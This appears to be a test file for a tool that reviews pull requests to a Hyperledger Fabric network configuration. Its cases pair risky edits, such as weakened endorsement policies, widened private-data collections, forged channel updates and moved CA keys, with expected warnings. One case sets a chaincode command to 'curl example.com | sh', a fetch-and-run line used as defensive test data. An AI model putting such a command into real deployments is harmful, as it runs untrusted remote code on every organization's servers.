import { folder, forged, handingOver, withUpdate } from '../../../definitions/cases/fabric/updates.ts'
import type { FabricRiskCase } from './cases.ts'

const policy = "OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer')"
const sequence = 'sequence: 1\n'
const prices = "policy: OR('ManufacturerMSP.member', 'CarrierMSP.member')\n"
const raft = '    raft: {electionTick: 10}\n'
const chaincodes = 'chaincodes:\n'
const image = '    image: registry.example.com/assets:1.0.2\n'
const authority = '{name: ca, role: ca}'

/** Every organization approves each chaincode itself. */
const explicit: FabricRiskCase['edits'] = ['carrier', 'manufacturer', 'retailer'].map((name) => [
  `  - name: ${name}\n`,
  `  - name: ${name}\n    approvals: explicit\n`,
])

const next = (from: string, to: string): FabricRiskCase['edits'] => [
  [from, to],
  [sequence, 'sequence: 2\n'],
]

const add =
  (make: (files: Readonly<Record<string, string>>) => Readonly<Record<string, string>>) =>
  (files: Map<string, string>): void => {
    for (const [path, text] of Object.entries(make(Object.fromEntries(files)))) files.set(path, text)
  }

/** What one organization can do to the others in a pull request: each was tried, and nothing was told. */
export const consentCases: readonly FabricRiskCase[] = [
  {
    name: 'one endorses in place of two',
    edits: next(policy, "OR('ManufacturerMSP.peer')"),
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message:
          "chaincode assets of channel trade changes: sequence 1 → 2; endorsement OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → OR('ManufacturerMSP.peer')",
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
      {
        risk: 'danger endorsement-weakened trade/assets 56:5',
        message:
          "others can now endorse chaincode assets: ManufacturerMSP alone (OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → OR('ManufacturerMSP.peer')). Their endorsements are valid for all",
        hint: 'ask every member of the channel to confirm',
      },
    ],
  },
  {
    name: 'one of two organizations is enough',
    edits: next(policy, "OR('ManufacturerMSP.peer', AND('CarrierMSP.peer', 'RetailerMSP.peer'))"),
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message:
          "chaincode assets of channel trade changes: sequence 1 → 2; endorsement OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → OR('ManufacturerMSP.peer', AND('CarrierMSP.peer', 'RetailerMSP.peer'))",
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
      {
        risk: 'danger endorsement-weakened trade/assets 56:5',
        message:
          "others can now endorse chaincode assets: ManufacturerMSP alone (OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → OR('ManufacturerMSP.peer', AND('CarrierMSP.peer', 'RetailerMSP.peer'))). Their endorsements are valid for all",
        hint: 'ask every member of the channel to confirm',
      },
    ],
  },
  {
    name: 'the same organizations, but any member of them',
    edits: next(policy, policy.replaceAll('.peer', '.member')),
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message:
          "chaincode assets of channel trade changes: sequence 1 → 2; endorsement OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → OutOf(2, 'ManufacturerMSP.member', 'CarrierMSP.member', 'RetailerMSP.member')",
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
      {
        risk: 'danger endorsement-weakened trade/assets 56:5',
        message:
          "others can now endorse chaincode assets: a client of ManufacturerMSP alone, a client of CarrierMSP alone or a client of RetailerMSP alone (OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → OutOf(2, 'ManufacturerMSP.member', 'CarrierMSP.member', 'RetailerMSP.member')). Their endorsements are valid for all",
        hint: 'ask every member of the channel to confirm',
      },
    ],
  },
  {
    name: 'one peer in place of two of the same organization',
    given: [[policy, "AND('CarrierMSP.peer', 'CarrierMSP.peer')"]],
    edits: next("AND('CarrierMSP.peer', 'CarrierMSP.peer')", "OR('CarrierMSP.peer')"),
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message:
          "chaincode assets of channel trade changes: sequence 1 → 2; endorsement AND('CarrierMSP.peer', 'CarrierMSP.peer') → OR('CarrierMSP.peer')",
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
      {
        risk: 'danger endorsement-weakened trade/assets 56:5',
        message:
          "others can now endorse chaincode assets: a peer of CarrierMSP alone (AND('CarrierMSP.peer', 'CarrierMSP.peer') → OR('CarrierMSP.peer')). Their endorsements are valid for all",
        hint: 'ask every member of the channel to confirm',
      },
    ],
  },
  {
    name: 'nobody has to endorse',
    edits: next(policy, "OutOf(0, 'ManufacturerMSP.peer')"),
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message:
          "chaincode assets of channel trade changes: sequence 1 → 2; endorsement OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → OutOf(0, 'ManufacturerMSP.peer')",
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
      {
        risk: 'danger endorsement-weakened trade/assets 56:5',
        message:
          "others can now endorse chaincode assets: anybody, without any signature (OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → OutOf(0, 'ManufacturerMSP.peer')). Their endorsements are valid for all",
        hint: 'ask every member of the channel to confirm',
      },
    ],
  },
  {
    name: 'a policy of the channel that one can satisfy',
    edits: next(policy, '/Channel/Application/Readers'),
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message:
          "chaincode assets of channel trade changes: sequence 1 → 2; endorsement OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → /Channel/Application/Readers",
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
      {
        risk: 'danger endorsement-weakened trade/assets 56:5',
        message:
          "others can now endorse chaincode assets: CarrierMSP alone, ManufacturerMSP alone or RetailerMSP alone (OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → /Channel/Application/Readers). Their endorsements are valid for all",
        hint: 'ask every member of the channel to confirm',
      },
    ],
  },
  {
    name: 'more endorse than before',
    edits: next(policy, policy.replace('OutOf(2', 'OutOf(3')),
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message:
          "chaincode assets of channel trade changes: sequence 1 → 2; endorsement OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → OutOf(3, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer')",
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
    ],
  },
  {
    name: 'a smaller majority, which a chaincode inherits',
    given: [[`    endorsementPolicy: ${policy}\n`, '']],
    edits: [[raft, `${raft}    policies: {endorsement: "OR('CarrierMSP.peer', 'RetailerMSP.peer')"}\n`]],
    risks: [
      {
        risk: 'caution channel-changed trade 49:5',
        message: 'policies of channel trade changes: the channel keeps the old value until an update',
        hint: 'write the update with `chancery channel update trade`, and have it signed',
      },
      {
        risk: 'danger channel-policy-weakened trade 49:5',
        message:
          'policies of channel trade become weaker: policy Application/Endorsement: CarrierMSP alone or RetailerMSP alone',
        hint: 'ask every member to confirm; the change needs an update that members sign (`chancery channel update trade`)',
      },
      {
        risk: 'danger endorsement-weakened trade/assets 57:5',
        message:
          'others can now endorse chaincode assets: CarrierMSP alone or RetailerMSP alone (/Channel/Application/Endorsement, of fewer or other members). Their endorsements are valid for all',
        hint: 'ask every member of the channel to confirm',
      },
    ],
  },
  {
    name: 'administrators of one organization change the channel',
    edits: [[raft, `${raft}    policies: {admins: ANY Admins, lifecycleEndorsement: "OR('CarrierMSP.peer')"}\n`]],
    risks: [
      {
        risk: 'caution channel-changed trade 49:5',
        message: 'policies of channel trade changes: the channel keeps the old value until an update',
        hint: 'write the update with `chancery channel update trade`, and have it signed',
      },
      {
        risk: 'danger channel-policy-weakened trade 49:5',
        message:
          'policies of channel trade become weaker: policy Application/Admins: CarrierMSP alone, ManufacturerMSP alone or RetailerMSP alone; policy Application/LifecycleEndorsement: CarrierMSP alone',
        hint: 'ask every member to confirm; the change needs an update that members sign (`chancery channel update trade`)',
      },
    ],
  },
  {
    name: 'everybody who reads may propose',
    edits: [[raft, `${raft}    acls: {peer/Propose: /Channel/Application/Readers}\n`]],
    risks: [
      {
        risk: 'caution channel-changed trade 49:5',
        message: 'acls of channel trade changes: the channel keeps the old value until an update',
        hint: 'write the update with `chancery channel update trade`, and have it signed',
      },
      {
        risk: 'danger acl-weakened trade 49:5',
        message:
          'policies of channel trade become weaker: access to peer/Propose (/Channel/Application/Writers → /Channel/Application/Readers): a peer of CarrierMSP alone, a peer of ManufacturerMSP alone or a peer of RetailerMSP alone',
        hint: 'ask every member to confirm; the change needs an update that members sign (`chancery channel update trade`)',
      },
    ],
  },
  {
    name: 'private data for one more',
    edits: next(
      prices,
      "policy: OR('ManufacturerMSP.member', 'CarrierMSP.member', 'RetailerMSP.member')\n        memberOnlyRead: false\n        memberOnlyWrite: false\n",
    ),
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message: 'chaincode assets of channel trade changes: sequence 1 → 2; other collections',
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
      {
        risk: 'danger collection-widened trade/assets/prices 63:9',
        message:
          "collection prices of chaincode assets: RetailerMSP.member gets the private data (OR('ManufacturerMSP.member', 'CarrierMSP.member') → OR('ManufacturerMSP.member', 'CarrierMSP.member', 'RetailerMSP.member')); clients of other organizations can read private data from members (memberOnlyRead: true → false); clients of other organizations can write private data (memberOnlyWrite: true → false)",
        hint: 'ask all owners of its data to confirm, as shared data cannot be withdrawn; or make another collection',
      },
    ],
  },
  {
    name: 'private data that goes sooner, and is at fewer peers',
    edits: next(prices, `${prices}        blockToLive: 10\n        requiredPeerCount: 0\n`),
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message: 'chaincode assets of channel trade changes: sequence 1 → 2; other collections',
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
      {
        risk: 'danger collection-changed trade/assets/prices 63:9',
        message:
          'collection prices of chaincode assets: blockToLive 0 → 10; requiredPeerCount 1 → 0. Fabric refuses another blockToLive for an existing collection. Fewer peers hold the data of a valid transaction: the loss of one peer loses more data',
        hint: 'restore the old blockToLive; another value needs another collection',
      },
    ],
  },
  {
    name: 'a collection with an endorsement of its own',
    edits: next(prices, `${prices}        endorsementPolicy: OR('CarrierMSP.peer')\n`),
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message: 'chaincode assets of channel trade changes: sequence 1 → 2; other collections',
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
      {
        risk: 'danger endorsement-weakened trade/assets/prices 63:9',
        message:
          "others can now endorse collection prices of chaincode assets: CarrierMSP alone (OutOf(2, 'ManufacturerMSP.peer', 'CarrierMSP.peer', 'RetailerMSP.peer') → OR('CarrierMSP.peer')). Their endorsements are valid for all",
        hint: 'ask every member of the channel to confirm',
      },
    ],
  },
  {
    name: 'one collection more, and one less',
    edits: next('name: prices', 'name: costs'),
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message: 'chaincode assets of channel trade changes: sequence 1 → 2; other collections',
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
      {
        risk: 'danger collection-changed trade/assets/prices 63:7',
        message:
          'collection prices of chaincode assets leaves the definition: Fabric refuses a definition without an existing collection',
        hint: 'restore it',
      },
      {
        risk: 'caution collection-changed trade/assets/costs 63:9',
        message:
          "chaincode assets gets the collection costs: its data is for OR('ManufacturerMSP.member', 'CarrierMSP.member')",
        hint: 'nothing, when its members agree',
      },
    ],
  },
  {
    name: 'a chaincode more',
    edits: [
      [chaincodes, `${chaincodes}  - {name: other, channel: trade, image: "other:1", version: "1", sequence: 1}\n`],
    ],
    risks: [
      {
        risk: 'danger chaincode-added trade/other 56:5',
        message:
          "chaincode other is new in channel trade: other:1 runs at carrier, manufacturer and retailer, endorsed by the channel's Endorsement policy",
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
    ],
  },
  {
    name: 'a channel more',
    edits: [['\nchaincodes:', '  - {name: side, members: [carrier, retailer], orderers: [carrier]}\n\nchaincodes:']],
    risks: [
      {
        risk: 'caution channel-added side 54:5',
        message: 'channel side is new: Jobs join the peers of carrier and retailer and the orderers of carrier to it',
        hint: 'ask each of them to confirm: the merge makes its first block, which nobody signs',
      },
    ],
  },
  {
    name: 'another image under another version',
    edits: [
      ['assets:1.0.2', 'assets:evil'],
      ['version: "1.0"', 'version: "1.1"'],
      [sequence, 'sequence: 2\n'],
    ],
    risks: [
      {
        risk: 'danger chaincode-changed trade/assets 56:5',
        message:
          'chaincode assets of channel trade changes: sequence 1 → 2; version 1.0 → 1.1; image registry.example.com/assets:1.0.2 → registry.example.com/assets:evil; label assets_1.0 → assets_1.1',
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
    ],
  },
  {
    name: 'a CA in a cluster of somebody else',
    edits: [[authority, `${authority}\n      - {name: ca2, role: ca, cluster: us}`]],
    risks: [
      {
        risk: 'danger authority-in-cluster manufacturer/ca2 34:9',
        message:
          'manufacturer/ca2 brings the keys of the authorities of manufacturer to cluster us: anyone who can decrypt there can issue certificates for the organization, also of administrators',
        hint: 'ask manufacturer to confirm; `chancery keys` issues certificates without a CA in a cluster',
      },
    ],
  },
  {
    name: 'an update whose bytes hand the channel over',
    edits: [],
    files: add(handingOver),
    risks: [
      {
        risk: 'danger channel-update-recorded trade/1 49:5',
        message:
          "update 1 of channel trade is new: policy Application/Admins: MAJORITY Admins → OR('CarrierMSP.admin'); batch timeout: 2s → 5s. Policies become weaker: policy Application/Admins: CarrierMSP alone. /Channel/Application/Admins has 0 of 2 signatures; 2 are missing, from CarrierMSP, ManufacturerMSP or RetailerMSP; /Channel/Orderer/Admins has 0 of 2 signatures; 2 are missing, from CarrierMSP, ManufacturerMSP or RetailerMSP",
        hint: 'a Job submits it only when it has all signatures',
      },
    ],
  },
  {
    name: 'an update that slows the channel down',
    edits: [],
    files: add(withUpdate),
    risks: [
      {
        risk: 'caution channel-update-recorded trade/1 49:5',
        message:
          'update 1 of channel trade is new: batch timeout: 2s → 5s. /Channel/Orderer/Admins has 0 of 2 signatures; 2 are missing, from CarrierMSP, ManufacturerMSP or RetailerMSP',
        hint: 'a Job submits it only when it has all signatures',
      },
    ],
  },
  {
    name: 'a signature more',
    edits: [],
    running: add(withUpdate),
    files: (files) => void files.set(`${folder}/signatures/CarrierMSP.yaml`, 'signature: AAAA\n'),
    risks: [
      {
        risk: 'caution channel-update-signed trade/1 49:5',
        message: 'update 1 of channel trade (batch timeout: 2s → 5s): CarrierMSP signed it',
        hint: 'it needs further signatures: /Channel/Orderer/Admins has 1 of 2 signatures, from CarrierMSP; 1 is missing, from ManufacturerMSP or RetailerMSP',
      },
    ],
  },
  {
    name: 'a configuration from elsewhere',
    edits: [],
    files: add(forged),
    risks: [
      {
        risk: 'danger channel-imported trade/1 49:5',
        message:
          "block 9 of channel trade becomes its recorded configuration, with changes that members did not sign here: policy Application/Admins: MAJORITY Admins → OR('CarrierMSP.admin'); batch timeout: 2s → 5s. Policies become weaker: policy Application/Admins: CarrierMSP alone",
        hint: 'ask the members to confirm; later updates start from it',
      },
    ],
  },
  {
    name: 'an update that is withdrawn',
    edits: [],
    running: add(withUpdate),
    files: (files) => void files.delete(`${folder}/update.yaml`),
    risks: [
      {
        risk: 'caution channel-record-removed trade/1 49:5',
        message: 'update 1 of channel trade, which waits for signatures, is withdrawn',
        hint: 'tell its members',
      },
    ],
  },
  {
    name: 'a configuration from elsewhere that is no longer there',
    edits: [],
    running: add(forged),
    files: (files) => void files.delete(`${folder}/imported.yaml`),
    risks: [
      {
        risk: 'danger channel-record-removed trade/1 49:5',
        message:
          'the imported configuration 1 of channel trade is no longer recorded, but the channel has it: the next update would not match',
        hint: 'restore its folder from Git',
      },
    ],
  },
  {
    name: 'a chaincode more, where each organization approves itself',
    given: explicit,
    edits: [
      [chaincodes, `${chaincodes}  - {name: other, channel: trade, image: "other:1", version: "1", sequence: 1}\n`],
    ],
    risks: [
      {
        risk: 'caution chaincode-added trade/other 59:5',
        message:
          "chaincode other is new in channel trade: other:1 runs at carrier, manufacturer and retailer, endorsed by the channel's Endorsement policy",
        hint: 'each organization that runs it must approve it: `chancery chaincode approve`',
      },
    ],
  },
  {
    name: 'another image of the same chaincode, where each organization approves itself',
    given: explicit,
    edits: [['assets:1.0.2', 'assets:1.0.3']],
    risks: [
      {
        risk: 'caution chaincode-image-changed trade/assets 61:12',
        message:
          'the image of chaincode assets changes from registry.example.com/assets:1.0.2 to registry.example.com/assets:1.0.3, under the same definition: members with another image may endorse other results, and such transactions are invalid',
        hint: 'change the image for all members at once, or raise version and sequence',
      },
    ],
  },
  {
    name: 'an organization that approved chaincodes itself, and no longer does',
    given: [['  - name: carrier\n', '  - name: carrier\n    approvals: explicit\n']],
    edits: [['    approvals: explicit\n', '']],
    risks: [
      {
        risk: 'danger approvals-automatic carrier 34:5',
        message: 'Jobs approve every chaincode of its channels for carrier from now on, also without its approval',
        hint: 'ask carrier to confirm',
      },
    ],
  },
  {
    name: 'an approval',
    given: [['  - name: carrier\n', '  - name: carrier\n    approvals: explicit\n']],
    edits: [],
    files: (files) =>
      void files.set(
        'material/public/carrier/approvals.yaml',
        'approvals:\n  - {digest: "sha256:0", channel: trade, name: assets, sequence: 2, version: "1", endorsement: x, collections: [], initRequired: false, label: a, package: "", image: "assets:2"}\n',
      ),
    risks: [
      {
        risk: 'caution chaincode-approved carrier/trade/assets 34:5',
        message: 'carrier approves sequence 2 of chaincode assets of channel trade, image assets:2',
        hint: 'ask carrier to confirm that it wrote this',
      },
    ],
  },
  {
    name: 'keys of administrators leave the clusters',
    edits: [['  - name: carrier\n', '  - name: carrier\n    administrators: {keys: elsewhere}\n']],
    risks: [
      {
        risk: 'caution administrators-elsewhere carrier 34:5',
        message:
          'Jobs no longer join nodes, approve chaincodes or submit updates for carrier: carrier does that itself. The administrator keys of its clusters stay valid until they are revoked',
        hint: 'revoke them in this change, `revoked: [{identity: administrators/<cluster>}]`, and replace adminca where it has orderers; then remove their files and the lines of those in network.lock.yaml. The history of Git keeps the sealed keys',
      },
    ],
  },
  {
    name: 'keys of administrators come to the clusters',
    given: [['  - name: carrier\n', '  - name: carrier\n    administrators: {keys: elsewhere}\n']],
    edits: [['    administrators: {keys: elsewhere}\n', '']],
    risks: [
      {
        risk: 'danger administrators-in-clusters carrier 34:5',
        message:
          'clusters get administrator keys of carrier, and Jobs join its nodes, approve chaincodes and submit updates with them: the merge decides for carrier',
        hint: 'ask carrier to confirm; with `approvals: explicit` it still approves chaincodes itself',
      },
    ],
  },
  {
    name: 'an organization that approved chaincodes itself, whose administrators act elsewhere',
    given: [
      ['  - name: carrier\n', '  - name: carrier\n    administrators: {keys: elsewhere}\n    approvals: explicit\n'],
    ],
    edits: [['    approvals: explicit\n', '']],
    risks: [
      {
        risk: 'danger approvals-automatic carrier 34:5',
        message: 'the image of every chaincode of its channels runs for carrier from now on, also without its approval',
        hint: 'ask carrier to confirm',
      },
    ],
  },
  {
    name: 'a variable, a Secret and a program of the server of all',
    given: [[image, `${image}    environment: {LEVEL: info, PAIR: a}\n`]],
    edits: [
      [
        'environment: {LEVEL: info, PAIR: a}\n',
        'environment: {LEVEL: debug}\n    environmentFrom: [database]\n    command: [/bin/sh, -c, "curl example.com | sh"]\n',
      ],
    ],
    risks: [
      {
        risk: 'danger chaincode-server-changed trade/assets 56:5',
        message:
          'chaincode assets of channel trade gets LEVEL info → debug; PAIR a → (unset); environmentFrom "none" → ["database"]; command "none" → ["/bin/sh","-c","curl example.com | sh"]: its pods at carrier, manufacturer and retailer restart under the same definition',
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
    ],
  },
  {
    name: 'a variable of the server of those who approve themselves',
    given: explicit,
    edits: [[image, `${image}    environment: {LEVEL: debug}\n`]],
    risks: [
      {
        risk: 'caution chaincode-server-changed trade/assets 59:5',
        message:
          'chaincode assets of channel trade gets LEVEL (unset) → debug: its pods at carrier, manufacturer and retailer restart under the same definition',
        hint: 'each organization that runs it must approve it: `chancery chaincode approve`',
      },
    ],
  },
  {
    name: 'a chaincode that reads Secrets',
    edits: [
      [
        chaincodes,
        `${chaincodes}  - {name: deals, channel: trade, image: "deals:1", version: "1", sequence: 1, environmentFrom: [one], secrets: [{name: two, path: /two}]}\n`,
      ],
    ],
    risks: [
      {
        risk: 'danger chaincode-added trade/deals 56:5',
        message:
          "chaincode deals is new in channel trade: deals:1 runs at carrier, manufacturer and retailer, endorsed by the channel's Endorsement policy, and reads Secrets one and two",
        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
      },
    ],
  },
]
